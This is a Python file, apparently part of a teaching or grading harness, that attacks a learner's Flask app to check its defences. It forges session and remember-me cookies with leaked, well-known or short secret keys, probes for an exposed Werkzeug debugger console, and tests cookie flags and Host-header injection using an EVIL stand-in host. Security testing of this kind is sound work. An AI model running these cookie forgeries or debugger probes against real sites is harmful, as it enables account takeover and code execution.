"""Chapter 1: secrets and settings."""

import ast
import itertools
import re
import secrets
import shutil

from flask import Flask
from flask.sessions import SecureCookieSessionInterface
from flask_login import COOKIE_NAME, encode_cookie
from werkzeug.debug import DebuggedApplication
from werkzeug.test import Client
from workbench.loader import opened

from attacks.target import PRODUCTION, set_environment
from attacks.verdicts import SUCCEEDS, Chapter, NotReadyError, fails, succeeds
from attacks.visitor import EVIL, SITE, put_back

chapter = Chapter(1, "Secrets and settings")
HOST = EVIL.removeprefix("https://")
PAGES = ("/", "/login", "/register", "/welcome", "/nothing-here")
EVERYBODYS = (
    "dev secret changeme password secret-key secretkey mysecret you-will-never-guess".split()
)
IN_SOURCE = "the key that is in the source"
SHORT = 8  # characters, below which a program tries all keys


@chapter.attack(
    "Forge a cookie with a published key",
    "Which key signs the cookies when SECRET_KEY is in the environment, and which when it isn't?",
    r"SECRET_KEY.*=.*[\"']|secret_key\s*=",
    r"SECRET_KEY|secret_key",
)
def key(target):
    """A cookie signed with a key from your source opens /welcome."""
    theirs = keys_elsewhere(target)
    seen, known = forged(target.again(), theirs)
    if seen:
        return succeeds(seen, known)
    try:
        seen, known = forged(target.again(SECRET_KEY="", FLASK_SECRET_KEY=""), theirs)
    except NotReadyError:
        return fails("without SECRET_KEY in the environment, the app does not work")
    if seen:
        return succeeds(f"without SECRET_KEY in the environment, {seen}", known)
    return fails()


def keys_elsewhere(target):
    """Return the keys that an attacker gets who starts the published code on another machine."""
    keys, copy = set(), target.copy
    with opened(copy.root / copy.source.relative_to(copy.folder)) as theirs:
        theirs.copy()
        written = [file for file in copy.new_files() if file.is_relative_to(copy.root)]
        private = [file for file in written if file.suffix != ".py"]
        for file in (*private, *copy.root.glob(".env*")):
            (theirs.root / file.relative_to(copy.root)).unlink(missing_ok=True)
        shutil.rmtree(theirs.root / "instance", ignore_errors=True)
        for own in (secrets.token_hex(32), ""):
            set_environment(PRODUCTION | {"SECRET_KEY": own, "FLASK_SECRET_KEY": own})
            tried = theirs.load()
            if tried.value and tried.value.secret_key != own:
                keys.add(tried.value.secret_key)
    return keys


def forged(target, theirs):
    """Return how a key that an attacker knows opens the door, and what its line holds; or ""."""
    key, ada = target.app.secret_key, target.victim()
    keys = [key, *(target.app.config.get("SECRET_KEY_FALLBACKS") or [])]
    found = [(one, how) for one in keys if (how := how_known(one, theirs, target.copy))]
    if not found:
        return "", ""
    known, how = found[0]
    line = re.escape(as_text(known)) if how == IN_SOURCE else r"SECRET_KEY|secret_key"
    told, forger, thief = ada.session(), Flask("forger"), target.thief([])
    forger.secret_key = known
    interface = target.app.session_interface
    if not isinstance(interface, SecureCookieSessionInterface):
        interface = SecureCookieSessionInterface()
    cookie = interface.get_signing_serializer(forger).dumps(told)
    thief.client.set_cookie(target.app.config["SESSION_COOKIE_NAME"], cookie)
    if thief.greets(target.ada):
        return f"a session signed with {how} is taken for {target.ada}'s", line
    name, thief = target.app.config.get("REMEMBER_COOKIE_NAME", COOKIE_NAME), target.thief([])
    thief.client.set_cookie(name, encode_cookie(str(told.get("_user_id")), key=known))
    if thief.greets(target.ada):
        return f"a cookie {name} signed with {how} opens /welcome", line
    return "", ""


def as_text(key):
    """Return a key as it is written in the source."""
    return key.decode("utf-8", "replace") if isinstance(key, bytes) else str(key)


def how_known(key, theirs, copy):
    """Return which key it is, if an attacker knows it: in the source, well known, or short."""
    text = as_text(key)
    if key in theirs or text in literals(copy):
        return IN_SOURCE
    if text in EVERYBODYS:
        return f"the well-known key {text!r}"
    return f"a key of {len(text)} characters" if len(text) < SHORT else ""


def literals(copy):
    """Return the texts that are written in the app's code, and its settings as a whole."""
    found = set()
    for file, text in copy.texts():
        if "instance" in file.relative_to(copy.root).parts or file.name.startswith(".env"):
            continue
        if file.suffix != ".py":
            found |= {word.strip("\"' ") for line in text.splitlines() for word in line.split("=")}
            continue
        nodes = ast.walk(ast.parse(text))
        texts = [node.value for node in nodes if isinstance(node, ast.Constant)]
        found |= {one for one in texts if isinstance(one, str)}
        found |= {one.decode("utf-8", "replace") for one in texts if isinstance(one, bytes)}
    return found


@chapter.attack(
    "Find the debugger in production",
    "Which line turns debug on, whatever FLASK_DEBUG says?",
    r"debug\s*=\s*True|DEBUG\W+True|DebuggedApplication",
    r"debug",
)
def debugger(target):
    """Anyone who causes an error reads your code, and little more than a PIN protects a console."""
    for app, seen in (
        (target.app, "Werkzeug's debugger answers, although FLASK_DEBUG is 0"),
        (as_run(target.app), "app.debug is on, and app.run() then starts Werkzeug's debugger"),
    ):
        answer = Client(app).get("/?__debugger__=yes&cmd=resource&f=debugger.js", base_url=SITE)
        if answer.status_code == 200 and b"CONSOLE" in answer.get_data():
            return succeeds(seen)
    if b"EVALEX" in Client(target.app).get("/console", base_url=SITE).get_data():
        return succeeds("GET /console opens a console")
    return fails("no debugger answers when FLASK_DEBUG is 0")


def as_run(app):
    """Return the app as app.run() would serve it."""
    return DebuggedApplication(app.wsgi_app, evalex=True) if app.debug else app


@chapter.attack(
    "Read a cookie on the wire",
    "Which attribute keeps a cookie off plain http? Each cookie that logs in needs it.",
    r"COOKIE_SECURE",
    r"COOKIE_SAMESITE|set_cookie\(",
)
def wire(target):
    """Someone on the same network reads the login cookie and opens /welcome with it."""
    # Browsers send a cookie over http, too, unless it says Secure (RFC 6265, 5.4).
    return exposed(target, lambda one: not one.secure, "Secure")


@chapter.attack(
    "Read a cookie with a script",
    "Which attribute hides a cookie from JavaScript? Flask sets it unless it is told otherwise.",
    r"HTTPONLY|httponly",
    r"set_cookie\(",
)
def script(target):
    """A script that gets into a page can read the login cookie and send it away."""
    return exposed(target, lambda one: not one.http_only, "HttpOnly")


def exposed(target, is_exposed, attribute):
    """Log in without and with remember me, and try the cookies that lack an attribute."""
    for remember in (False, True):
        ada = target.inside(remember=True) if remember else target.victim()
        if got := list(filter(is_exposed, ada.cookies())):
            how = f"without {attribute} opens /welcome in another browser"
            verdict = put_back(target, got, how)
            if verdict.kind == SUCCEEDS:
                return verdict
    return fails()


@chapter.attack(
    "Make the site link to mine",
    "Which hosts does the app answer to? See TRUSTED_HOSTS in Flask's configuration.",
    r"_external\s*=\s*True|url_root|host_url|request\.host",
    r"TRUSTED_HOSTS",
)
def host(target):
    """A request in the name of another host makes your pages link to that host."""
    ada, stranger = target.victim(), target.visitor()
    names = {"Host": HOST}, {"X-Forwarded-Host": HOST}
    for browser, path, headers in itertools.product((stranger, ada), PAGES, names):
        answer = browser.get(path, follow=False, **headers)
        leads = [where for _, where in answer.hops if f"//{HOST}" in where]
        if leads or f"//{HOST}" in answer.html:
            seen = leads[0] if leads else f"a link to {EVIL}/"
            asked = ", ".join(f"{k}: {v}" for k, v in headers.items())
            return succeeds(f"GET {path} with {asked} answers with {seen}")
    return fails("no page has a link that names the host of the request")
